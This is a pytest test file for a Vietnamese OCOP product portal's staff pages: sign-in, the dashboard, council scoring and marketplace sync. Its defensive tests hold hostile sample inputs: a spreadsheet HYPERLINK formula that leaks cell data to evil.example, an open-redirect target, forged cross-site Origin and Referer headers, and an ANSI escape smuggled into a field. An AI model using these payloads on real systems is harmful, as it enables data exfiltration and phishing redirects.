"""Staff pages: sign-in, dashboard, council scoring, sync status (STUB BACKENDS: see conftest.py;
the dashboard's target table is real, on SQLite here and on PostgreSQL in test_targets_postgres)."""

from __future__ import annotations

import io
import json
from typing import Any

import httpx
import openpyxl
import pytest
from fastapi.testclient import TestClient

from ocop_kit.auth import decode_token, issue_token
from ocop_kit.client_address import HEADER as CLIENT_HEADER
from ocop_kit.client_address import vouch_for_client
from ocop_kit.revocation import TokenVersions
from ocop_portal.app import create_app
from ocop_portal.dashboard.excel import stats_workbook
from ocop_portal.dashboard.service import Breakdown
from ocop_portal.settings import Settings

STATS = {
    "products_total": 12,
    "certified_total": 10,
    "by_stars": {"3": 7, "4": 3, "5": 0},
    "by_group": {"thuc_pham": 9, "do_uong": 3},
    "by_product_set": {"ruou_trang": 3, "none": 9},
    "by_producer_kind": {"cooperative": 8, "household": 4},
    "by_commune": {"Xã Hải Quang": 5},
    "by_legacy_district": {"Huyện Hải Hậu, Tỉnh Nam Định": 6},
    "by_province": {"37": 12},
    "on_ecommerce": {"count": 3, "share": 0.25},
    "expiring_within_180_days": 2,
}


def test_staff_pages_send_signed_out_people_to_sign_in(client: TestClient) -> None:
    for path in ("/dashboard", "/council", "/sync"):
        answer = client.get(path)
        assert answer.status_code == 303
        assert answer.headers["location"] == f"/sign-in?next={path}"


def test_pasted_token_signs_in_with_an_httponly_cookie_and_bad_ones_are_refused(
    client: TestClient, settings: Any
) -> None:
    refused = client.post("/sign-in", data={"token": "not-a-token"})
    assert refused.status_code == 400 and "Mã truy cập không dùng được" in refused.text
    from ocop_kit.auth import issue_token

    token = issue_token(settings, "sync_operator")
    accepted = client.post("/sign-in", data={"token": f"Bearer {token}", "next": "/sync"})
    assert accepted.status_code == 303 and accepted.headers["location"] == "/sync"
    cookie = accepted.headers["set-cookie"]
    assert "ocop_token=" in cookie and "HttpOnly" in cookie and "SameSite=lax" in cookie
    offsite = client.post("/sign-in", data={"token": token, "next": "//evil.example/"})
    assert offsite.headers["location"] == "/"


def test_dev_sign_in_issues_the_chosen_role_and_warns_on_every_page_while_on(
    client: TestClient, settings: Any, stubs: Any, tmp_path: Any
) -> None:
    answer = client.post(
        "/sign-in/dev", data={"role": "province_officer", "province_code": "37", "name": "lan"}
    )
    assert answer.status_code == 303
    principal = decode_token(settings, TokenVersions(settings), client.cookies["ocop_token"])
    assert (principal.role, principal.province_code, principal.subject) == (
        "province_officer", "37", "lan",
    )  # fmt: skip
    missing_scope = client.post("/sign-in/dev", data={"role": "province_officer"})
    assert missing_scope.status_code == 400
    for page in ("/", "/search", "/sign-in", "/dashboard", "/no-such-page"):
        assert 'class="dev-warning"' in client.get(page).text, page


def test_dev_sign_in_is_off_unless_opted_in_and_refused_beyond_loopback_or_in_production(
    settings: Any, stubs: Any
) -> None:
    default = settings.model_copy(update={"dev_sign_in": False})
    with TestClient(create_app(default, httpx.MockTransport(stubs))) as off:
        page = off.get("/sign-in").text
        assert "/sign-in/dev" not in page and "dev-warning" not in page
        assert off.post("/sign-in/dev", data={"role": "admin"}).status_code == 403
        assert "ocop_token" not in off.cookies
    fields = settings.model_dump(exclude={"dev_sign_in", "listen_host", "environment"})
    for listen_host, environment in (
        ("0.0.0.0", "development"),
        ("10.0.0.5", "development"),
        ("::", "development"),
        ("127.0.0.1", "production"),
    ):
        with pytest.raises(ValueError, match="OCOP_DEV_SIGN_IN"):
            Settings(**fields, dev_sign_in=True, listen_host=listen_host, environment=environment)
    assert Settings(**fields, dev_sign_in=True, listen_host="::1").dev_sign_in


def test_officer_dashboard_shows_own_province_tables_charts_and_target_progress(
    client: TestClient, stubs: Any, sign_in: Any
) -> None:
    stubs.on("registry", "GET", "/v1/stats", STATS)
    expiring = [
        {"id": f"e{n}", "name": f"Sản phẩm {n}", "producer": {"name": "HTX"},
         "certificate": {"stars": 3, "expires_on": f"2027-0{n}-01"}}
        for n in (3, 1)
    ]  # fmt: skip
    stubs.on("registry", "GET", "/v1/products", {"items": expiring, "next_cursor": None})
    sign_in("province_officer", province_code="37")
    page = client.get("/dashboard", params={"province_code": "01"})  # asks for another province
    assert page.status_code == 200
    assert stubs.requests_to("registry", "/v1/stats")[-1].url.params["province_code"] == "37"
    html = page.text
    assert "Bảng số liệu OCOP: Ninh Bình" in html
    # Bars are HTML (labels wrap, never clipped); a one-province dashboard has no province chart.
    assert 'id="table-by_stars"' in html and 'class="bars"' in html
    assert 'id="table-by_province"' not in html
    assert '<th scope="col">Hạng sao</th>' in html and '<th scope="col">Nhóm</th>' not in html
    assert "Hợp tác xã" in html and "Huyện Hải Hậu, Tỉnh Nam Định" in html
    assert 'id="table-by_product_set"' in html and "Chưa chọn bộ sản phẩm" in html
    assert "Chưa đặt chỉ tiêu cho năm này" in html
    listed = stubs.requests_to("registry", "/v1/products")[-1].url.params
    assert (listed["status"], listed["province_code"]) == ("expiring", "37")
    assert html.index("01/01/2027") < html.index("01/03/2027")  # soonest first

    saved = client.post(
        "/dashboard/target",
        data={"province_code": "37", "year": "2026", "target_products": "40", "note": "KH 2026"},
    )
    assert saved.status_code == 303
    after = client.get(saved.headers["location"]).text
    assert "Đã lưu chỉ tiêu năm" in after
    assert "<strong>10</strong> / 40" in after and "25,0%" in after

    other = client.post(
        "/dashboard/target", data={"province_code": "01", "year": "2026", "target_products": "5"}
    )
    assert other.status_code == 403
    invalid = client.post(
        "/dashboard/target", data={"province_code": "37", "year": "1990", "target_products": "-3"}
    )
    assert invalid.status_code == 422
    assert "Năm phải từ 2019" in invalid.text and "Chỉ tiêu phải là số nguyên" in invalid.text


def test_excel_download_passes_the_registry_workbook_through(
    client: TestClient, stubs: Any, sign_in: Any
) -> None:
    stubs.handler(
        "registry",
        "GET",
        "/v1/stats.xlsx",
        lambda request: httpx.Response(200, content=b"PK\x03\x04workbook"),
    )
    sign_in("province_officer", province_code="37")
    answer = client.get("/dashboard/stats.xlsx")
    assert answer.status_code == 200 and answer.content == b"PK\x03\x04workbook"
    assert "attachment" in answer.headers["content-disposition"]


def test_portal_built_workbook_cells_cannot_carry_formulas() -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    breakdown = Breakdown("by_commune", ("Xã/phường", "Commune"), [(hostile, 3.0), ("-2+3", 1.5)])
    content = stats_workbook("@Thống kê", [("+ Tổng", 4)], [breakdown])
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert [c.value for c in book["Tong hop"]["A"]] == ["'@Thống kê", "'+ Tổng"]
    rows = list(book["commune"].iter_rows(min_row=2, values_only=True))
    assert rows == [("'" + hostile, 3), ("'-2+3", 1.5)]
    assert {c.data_type for c in book["commune"]["A"]} == {"s"}


def test_target_note_with_control_characters_is_refused(
    client: TestClient, stubs: Any, sign_in: Any
) -> None:
    sign_in("province_officer", province_code="37")
    target = {"province_code": "37", "year": "2026", "target_products": "40"}
    refused = client.post("/dashboard/target", data={**target, "note": "KH\x1b[31m 2026"})
    assert refused.status_code == 422 and "U+001B" in refused.text
    saved = client.post("/dashboard/target", data={**target, "note": " KH 2026\r\ndòng 2 "})
    assert saved.status_code == 303


def stub_scoring_screen(stubs: Any, session: dict[str, Any], application: dict[str, Any]) -> None:
    """What the evaluation service answers to open the scoring screen of application a1."""
    stubs.on("evaluation", "GET", "/v1/sessions/s1", session)
    stubs.on("evaluation", "GET", "/v1/sessions/s1/applications/a1", application)
    stubs.on("evaluation", "GET", f"/v1/criteria-sets/{session['criteria_set']}", {"parts": []})
    stubs.on("evaluation", "GET", "/v1/sessions/s1/applications/a1/scores", [])


def test_council_sheet_is_saved_with_each_change_and_the_tally_shows_the_star(
    client: TestClient, stubs: Any, sign_in: Any
) -> None:
    session = {
        "id": "s1",
        "name": "Hội đồng tỉnh",
        "criteria_set": "qd-148-2023",
        "criteria_set_confirmed": False,
        "members": [{"id": "m-chair", "name": "Chủ tịch", "role": "chair"}],
    }
    application = {
        "id": "a1",
        "product_name": "Mật ong",
        "product_group": "thuc_pham",
        "criteria": [
            {
                "code": "A1",
                "name_vi": "Nguyên liệu",
                "allowed_points": [0, 40],
                "mandatory_from_stars": 3,
            },
            {"code": "C1", "name_vi": "Chất lượng", "allowed_points": [0, 35, 60]},
        ],
    }
    stub_scoring_screen(stubs, session, application)
    stubs.handler(
        "evaluation",
        "PUT",
        "/v1/sessions/s1/applications/a1/scores/m-chair",
        lambda request: httpx.Response(
            200,
            json={"total": 75, "updated_at": "2026-11-23T04:00:00Z", **json.loads(request.content)},
        ),
    )

    def preview(request: httpx.Request) -> httpx.Response:
        # The evaluation service's answer for 75 points (its rules are tested there).
        capped = bool(json.loads(request.content)["mandatory_failed"])
        return httpx.Response(
            200,
            json={"total": 75, "max_total": 100, "scored": 2, "criteria_count": 2,
                  "complete": True, "stars_by_total": 4, "stars_cap": 2 if capped else 5,
                  "stars": 2 if capped else 4, "outcome": "recognised"},
        )  # fmt: skip

    stubs.handler("evaluation", "POST", "/v1/sessions/s1/applications/a1/preview", preview)
    sign_in("council_member", subject="m-chair")
    screen = client.get("/council/sessions/s1/applications/a1/score")
    assert screen.status_code == 200
    assert 'name="c:A1" value="40.0"' in screen.text and "hx-post=" in screen.text
    assert 'id="card-unconfirmed"' in screen.text  # a provisional card says so to the member

    tally = client.post(
        "/council/sessions/s1/applications/a1/score",
        data={"c:A1": "40.0", "c:C1": "35.0", "comment": "Đạt"},
        headers={"HX-Request": "true"},
    )
    assert tally.status_code == 200
    assert stubs.last_json("evaluation", "/v1/sessions/s1/applications/a1/scores/m-chair") == {
        "scores": {"A1": 40.0, "C1": 35.0},
        "answers": {},
        "mandatory_failed": [],
        "comment": "Đạt",
    }
    assert 'id="running-total">75<' in tally.text and "4 sao" in tally.text
    assert "Đã lưu lúc 23/11/2026 11:00" in tally.text  # shown in Vietnam's time zone

    capped = client.post(
        "/council/sessions/s1/applications/a1/score",
        data={"c:A1": "40.0", "c:C1": "35.0", "failed": "A1"},
        headers={"HX-Request": "true"},
    )
    assert "2 sao" in capped.text and "bị giới hạn" in capped.text
    asked = stubs.last_json("evaluation", "/v1/sessions/s1/applications/a1/preview")
    assert asked == {
        "scores": {"A1": 40.0, "C1": 35.0},
        "answers": {},
        "mandatory_failed": ["A1"],
        "comment": None,
    }


def test_a_refused_sheet_shows_the_services_reason_in_the_tally(
    client: TestClient, stubs: Any, sign_in: Any
) -> None:
    stubs.on(
        "evaluation", "GET", "/v1/sessions/s1", {"id": "s1", "criteria_set": "x", "members": []}
    )
    stubs.on("evaluation", "GET", "/v1/sessions/s1/applications/a1", {"id": "a1", "criteria": []})
    stubs.on("evaluation", "GET", "/v1/criteria-sets/x", {})
    stubs.on(
        "evaluation",
        "PUT",
        "/v1/sessions/s1/applications/a1/scores/m1",
        {"detail": "Phiên đã đóng", "detail_en": "The session is closed"},
        status=409,
    )
    sign_in("council_member", subject="m1")
    tally = client.post(
        "/council/sessions/s1/applications/a1/score",
        data={"member_id": "m1"},
        headers={"HX-Request": "true"},
    )
    assert tally.status_code == 200  # htmx swaps only 2xx answers
    assert 'role="alert"' in tally.text and "Chưa lưu được: Phiên đã đóng" in tally.text


def test_sync_screen_counts_by_channel_and_status_and_retries_a_failure(
    client: TestClient, stubs: Any, sign_in: Any
) -> None:
    rows = [
        {"id": "l1", "product_id": "p1", "channel": "shopee", "status": "failed", "attempts": 5,
         "last_error": "HTTP 500 from Shopee"},
        {"id": "l2", "product_id": "p2", "channel": "shopee", "status": "listed"},
        {"id": "l3", "product_id": "p3", "channel": "tiki", "status": "listed"},
    ]  # fmt: skip

    def listings(request: httpx.Request) -> httpx.Response:
        status = request.url.params.get("status")
        items = [r for r in rows if not status or r["status"] == status]
        return httpx.Response(200, json={"items": items, "next_cursor": None})

    stubs.handler("marketplace_sync", "GET", "/v1/listings", listings)
    stubs.on("marketplace_sync", "POST", "/v1/listings/l1/retry", {"id": "l1"}, status=202)
    stubs.on("registry", "GET", "/v1/products/p1", {"id": "p1", "name": "Nước mắm Hải Đông"})
    sign_in("sync_operator")
    page = client.get("/sync")
    assert page.status_code == 200
    assert 'data-channel="shopee" data-status="listed"><a' in page.text
    assert "HTTP 500 from Shopee" in page.text
    assert ">Nước mắm Hải Đông</a>" in page.text  # named from the registry; p2, p3 keep ids
    assert ">p3</a>" in page.text
    retried = client.post("/sync/listings/l1/retry", data={"back": "/sync?channel=shopee"})
    assert retried.status_code == 303
    assert retried.headers["location"] == "/sync?channel=shopee&retried=l1"
    assert len(stubs.requests_to("marketplace_sync", "/v1/listings/l1/retry")) == 1


def test_roles_without_access_get_a_403_page(client: TestClient, sign_in: Any) -> None:
    sign_in("producer", producer_id="pr1")
    answer = client.get("/sync")
    assert answer.status_code == 403
    assert "Vận hành đồng bộ sàn" in answer.text


def test_producer_sees_own_products_certificates_and_listing_states(
    client: TestClient, stubs: Any, sign_in: Any
) -> None:
    stubs.on(
        "registry",
        "GET",
        "/v1/products",
        {
            "items": [
                {"id": "p1", "name": "Trà shan tuyết",
                 "certificate": {"stars": 4, "status": "expiring", "expires_on": "2026-12-20"}},
                {"id": "p2", "name": "Trà túi lọc", "certificate": None},
            ],
            "next_cursor": None,
        },
    )  # fmt: skip

    def listings(request: httpx.Request) -> httpx.Response:
        if request.url.params["product_id"] == "p1":
            rows = [{"channel": "shopee", "status": "blocked", "missing": ["images"]}]
            return httpx.Response(200, json={"items": rows, "next_cursor": None})
        return httpx.Response(403, json={"detail": "Không có quyền"})

    stubs.handler("marketplace_sync", "GET", "/v1/listings", listings)
    sign_in("producer", producer_id="pr-7")
    page = client.get("/my-products")
    assert page.status_code == 200
    assert stubs.requests_to("registry", "/v1/products")[-1].url.params["producer_id"] == "pr-7"
    assert "Sắp hết hạn" in page.text and "20/12/2026" in page.text
    assert "Shopee" in page.text
    assert "(thiếu: images)" in page.text
    assert "Chưa xem được" in page.text  # p2's listings were refused: shown, not crashed


def test_sync_screen_uses_the_services_summary_and_offers_channel_actions(
    client: TestClient, stubs: Any, sign_in: Any
) -> None:
    stubs.on(
        "marketplace_sync",
        "GET",
        "/v1/sync/stats",
        {
            "channels": {
                "tiki": {"by_status": {"listed": 1200, "failed": 3}, "failures_last_day": 3},
                "voso": {"by_status": {"pending": 40}, "failures_last_day": 0},
            },
            "listings_total": 1243,
            "certified_products": 1000,
            "certified_on_any_channel": 640,
            "share_on_any_channel": 0.64,
            "failures_last_day": 3,
        },
    )
    stubs.on(
        "marketplace_sync",
        "GET",
        "/v1/channels",
        [{"code": "tiki", "mode": "api"}, {"code": "voso", "mode": "bulk_file"}],
    )
    stubs.on("marketplace_sync", "GET", "/v1/listings", {"items": [], "next_cursor": None})
    stubs.on("marketplace_sync", "POST", "/v1/channels/voso/uploaded", {"marked": 40})
    stubs.handler(
        "marketplace_sync",
        "GET",
        "/v1/channels/voso/upload-sheet",
        lambda request: httpx.Response(
            200,
            content=b"PK-sheet",
            headers={"content-type": "application/octet-stream",
                     "content-disposition": 'attachment; filename="voso-upload.xlsx"'},
        ),
    )  # fmt: skip
    sign_in("sync_operator")
    page = client.get("/sync").text
    assert (
        'data-channel="tiki" data-status="listed"><a href="?channel=tiki&status=listed">1.200'
        in page
    )
    assert "64,0%" in page
    assert 'action="/sync/channels/tiki/reconcile"' in page
    assert 'href="/sync/channels/voso/upload-sheet"' in page
    assert not stubs.requests_to("marketplace_sync", "/v1/listings")[0].url.params.get("cursor")
    marked = client.post("/sync/channels/voso/uploaded")
    assert marked.headers["location"] == "/sync?done=uploaded%3Avoso"
    assert stubs.last_json("marketplace_sync", "/v1/channels/voso/uploaded") == {}
    sheet = client.get("/sync/channels/voso/upload-sheet")
    assert (
        sheet.content == b"PK-sheet" and "voso-upload.xlsx" in sheet.headers["content-disposition"]
    )


def test_forms_posted_from_another_site_are_refused(client: TestClient, settings: Any) -> None:
    from ocop_kit.auth import issue_token

    token = issue_token(settings, "sync_operator")
    forged = client.post(
        "/sign-in", data={"token": token}, headers={"Origin": "https://evil.example"}
    )
    assert forged.status_code == 403
    assert "Biểu mẫu này chỉ gửi được từ chính cổng thông tin" in forged.text
    assert "set-cookie" not in forged.headers
    by_referer = client.post(
        "/sign-in", data={"token": token}, headers={"Referer": "https://evil.example/page"}
    )
    assert by_referer.status_code == 403
    own = client.post("/sign-in", data={"token": token}, headers={"Origin": "http://testserver"})
    assert own.status_code == 303


def test_a_card_with_answers_is_scored_by_choosing_the_answer(
    client: TestClient, stubs: Any, sign_in: Any
) -> None:
    session = {
        "id": "s1",
        "criteria_set": "qd-26-2026",
        "criteria_set_version": 2,
        "criteria_set_confirmed": True,
        "members": [{"id": "m1", "name": "Thành viên", "role": "chair"}],
    }
    application = {
        "id": "a1",
        "product_name": "Hoa lan",
        "previous": {
            "stars": 4,
            "total": 72.5,
            "decided_on": "2025-03-01",
            "same_card": True,
            "mean_points": {"A1": 2.0},
        },
        "criteria": [
            {
                "code": "A1",
                "name_vi": "Nguyên liệu",
                "allowed_points": [0, 2],
                "options": [
                    {"points": 2, "text_vi": "Nguyên liệu tại địa phương"},
                    {"points": 0, "text_vi": "Nguyên liệu nơi khác"},
                ],
            }
        ],
    }
    stub_scoring_screen(stubs, session, application)
    stubs.on(
        "evaluation",
        "PUT",
        "/v1/sessions/s1/applications/a1/scores/m1",
        {"total": 2, "updated_at": "2026-11-23T04:00:00Z"},
    )
    stubs.on("evaluation", "POST", "/v1/sessions/s1/applications/a1/preview", {})
    sign_in("council_member", subject="m1")
    screen = client.get("/council/sessions/s1/applications/a1/score")
    assert 'name="a:A1" value="1"' in screen.text and "Nguyên liệu tại địa phương" in screen.text
    assert 'id="card-unconfirmed"' not in screen.text
    assert 'id="previous-evaluation"' in screen.text and "lần trước 2" in screen.text
    asked = stubs.requests_to("evaluation", "/v1/criteria-sets/qd-26-2026")[-1]
    assert asked.url.params["version"] == "2"  # the version the session keeps

    client.post(
        "/council/sessions/s1/applications/a1/score",
        data={"a:A1": "1"},
        headers={"HX-Request": "true"},
    )
    sent = stubs.last_json("evaluation", "/v1/sessions/s1/applications/a1/scores/m1")
    assert sent["answers"] == {"A1": 1} and sent["scores"] == {}


def test_password_sign_in_vouches_for_the_readers_address_to_the_registry(
    client: TestClient, settings: Any, stubs: Any
) -> None:
    token = issue_token(settings, "admin", subject="account-1", token_version=1)
    stubs.on(
        "registry",
        "POST",
        "/v1/auth/token",
        {"access_token": token, "role": "admin", "province_code": None, "producer_id": None},
    )
    answer = client.post(
        "/sign-in/password", data={"username": "admin", "password": "mật khẩu dài lắm"}
    )
    assert answer.status_code == 303
    [sent] = stubs.requests_to("registry", "/v1/auth/token")
    # The test client's address, with a MAC only holders of the services' key can make.
    assert sent.headers[CLIENT_HEADER] == vouch_for_client(settings, "testclient")
    assert "x-forwarded-for" not in sent.headers
